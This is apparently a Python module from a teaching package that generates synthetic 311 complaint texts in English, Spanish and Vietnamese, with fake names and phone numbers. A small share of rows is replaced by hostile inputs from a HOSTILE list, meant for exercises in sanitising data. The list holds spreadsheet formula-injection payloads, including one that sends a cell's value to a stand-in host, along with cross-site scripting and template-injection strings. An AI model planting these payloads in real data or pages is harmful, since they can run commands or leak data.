"""What residents write to 311: plain, late, in two languages, with names and phone numbers, and now and then with something worse."""

from __future__ import annotations

import numpy as np
import numpy.typing as npt

from sara.teach._rhythms import START, Floats

Texts = npt.NDArray[np.object_]

__all__ = ["descriptions"]

ENGLISH = {
    "Noise Complaint": ("Loud music and shouting again, can't sleep.", "Party with people in the street after midnight.", "Music so loud the windows shake.", "Noise every weekend, please do something."),
    "Illegal Dumping": ("Mattress and bags left by the alley.", "Someone dumped tires here again.", "Construction waste on the corner.", "Sofa on the sidewalk for a week."),
    "Graffiti": ("Fresh tags on the wall.", "Graffiti on the fence and the utility box.", "Spray paint on the shop shutter."),
    "Abandoned Vehicle": ("Car has not moved for a month, flat tires.", "Van without plates parked for weeks.", "Broken windows, looks abandoned."),
    "Pothole": ("Deep pothole in the right lane.", "Hole in the road, nearly lost a wheel.", "Pothole is back after the repair."),
    "Street Light Out": ("Light has been out for two weeks.", "Whole row of lights is dark, people are afraid to walk here.", "Lamp flickers and then goes out."),
    "Missed Trash Collection": ("Trash was not picked up on our street.", "Bins still full since Tuesday.", "Recycling skipped again."),
    "Overgrown Lot": ("Weeds over six feet on the empty lot.", "Nobody mows here, rats are living in it.", "Lot is overgrown and full of litter."),
    "Parking Violation": ("Truck blocks the driveway.", "Cars on the sidewalk, no room for a stroller.", "Parked at the hydrant all night."),
    "Homeless Encampment": ("Tents under the bridge, they need help.", "People sleeping here in the cold.", "Camp is growing."),
    "Rodent Complaint": ("Rats in the yard.", "Mice coming from the house next door."),
    "Stray Dog": ("Dog without a collar, looks hungry.", "Two dogs running loose near the school."),
    "Tree Limb Down": ("Large branch on the sidewalk.", "Limb hangs over the wire."),
    "Sidewalk Damage": ("Slab is raised, my mother fell.", "Curb is broken, wheelchairs can't pass."),
    "Traffic Signal Problem": ("Signal stuck on red.", "Walk button does not work."),
    "Water Leak": ("Water running down the street.", "Leak at the hydrant."),
    "Snow Not Cleared": ("Street not plowed yet.", "Ice on the sidewalk in front of the shop."),
    "Park Maintenance": ("Swing is broken.", "Trash cans in the park overflow."),
    "Drug Activity or Needles": ("Needles by the stairs, children play here.", "People come all day to the back door, cars stop for two minutes.", "Found needles in the laundry room."),
    "Public Drinking or Disorderly Conduct": ("Fights outside when the bars close.", "People shouting and urinating in doorways at 2 am.", "No bus after midnight, everybody stays in the street.", "Nobody can get a taxi, then it gets ugly."),
    "Housing Condition": ("No heat since Friday.", "Mold in the bathroom, landlord does not answer."),
}  # fmt: skip
SPANISH = (
    "Por favor ayuden, llevamos semanas así.",
    "Nadie responde cuando llamamos.",
    "Hay niños en esta calle, es peligroso.",
    "Pasa todas las noches.",
)
VIETNAMESE = ("Xin hãy giúp, chuyện này xảy ra mỗi tuần.", "Chúng tôi đã gọi nhiều lần.")
NAMES = (
    "Maria Lopez",
    "John Becker",
    "Anh Nguyen",
    "Tasha Williams",
    "Gus Lindqvist",
    "Fatima Hassan",
    "Peter Kowalski",
    "Rosa Delgado",
)
HOSTILE = (
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")', "+15550100 call me back", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert('riverton')</script>", '<img src=x onerror="alert(1)">', "</td></tr><script src=//example.invalid/x.js></script>", "{{7*7}} ${7*7}",
)  # fmt: skip
PERSONAL, HOSTILE_SHARE, SILENT = 0.025, 0.0012, 0.08


def descriptions(rng: np.random.Generator, names: Texts, language: Texts, happened: Floats, tag: Texts) -> Texts:
    """Return the free text of each request."""
    n = len(names)
    out = np.full(n, "", dtype=object)
    for name in np.unique(names.astype(str)):
        rows = np.flatnonzero(names == name)
        out[rows] = np.array(ENGLISH[name], dtype=object)[rng.integers(0, len(ENGLISH[name]), len(rows))]
    for word, lines in (("Spanish", SPANISH), ("Vietnamese", VIETNAMESE)):
        rows = np.flatnonzero(language == word)
        out[rows] = np.array(lines, dtype=object)[rng.integers(0, len(lines), len(rows))]
    for i in np.flatnonzero(np.isfinite(happened)):
        day = (START + np.timedelta64(int(happened[i] // 86400), "D")).astype(object)
        out[i] = f"Happened on {day:%A %m/%d}. {out[i]}"
    for i in np.flatnonzero(rng.random(n) < PERSONAL):
        phone = f"555-01{rng.integers(0, 100):02d}"
        who = NAMES[int(rng.integers(len(NAMES)))]
        out[i] = (
            f"{out[i]} My name is {who}, call me at {phone}."
            if rng.random() < 0.6
            else f"{out[i]} Ask {who} at number {rng.integers(2, 90)}, he saw it."
        )
    out[rng.random(n) < SILENT] = ""
    for i in np.flatnonzero((rng.random(n) < HOSTILE_SHARE) & (tag == "")):
        out[i] = HOSTILE[int(rng.integers(len(HOSTILE)))]
    return out
